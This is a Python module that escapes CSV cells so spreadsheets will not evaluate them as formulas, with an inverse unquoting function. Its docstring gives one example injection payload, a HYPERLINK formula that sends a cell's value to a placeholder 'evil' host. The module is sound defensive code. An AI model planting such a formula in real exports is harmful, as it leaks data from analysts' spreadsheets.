"""CSV cells that a spreadsheet will not run as formulas (CSV/formula injection).

Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-` or `@` (and
some read a leading tab or carriage return the same way), so a note or a data value such as
`=HYPERLINK("http://evil/?"&A1)` would run when an analyst opens an exported CSV. Such text cells
get a leading single quote, which spreadsheets show as text and hide. Numbers (int and float
values, and text that is exactly a number like `-3.5`) are left alone: they cannot hide a
formula and must stay numbers.

The escape is reversible: a cell is quoted when it matches `'*[trigger]`, so reading strips one
quote from any cell matching `'+[trigger]` and gets back exactly what was written, even text
that itself began with a quote.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

TRIGGERS = "=+-@\t\r"
_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
_QUOTED = re.compile(r"'+[=+\-@\t\r]")
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """`value` ready for csv.writer: text that a spreadsheet would evaluate gets a quote."""
    if not isinstance(value, str):
        return value  # numbers, booleans and None are written by csv as they are
    if _NEEDS_QUOTE.match(value) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    return [safe_cell(v) for v in values]


def unquote_cell(text: str) -> str:
    """The inverse of safe_cell for a cell read back from a CSV we wrote."""
    return text[1:] if _QUOTED.match(text) else text
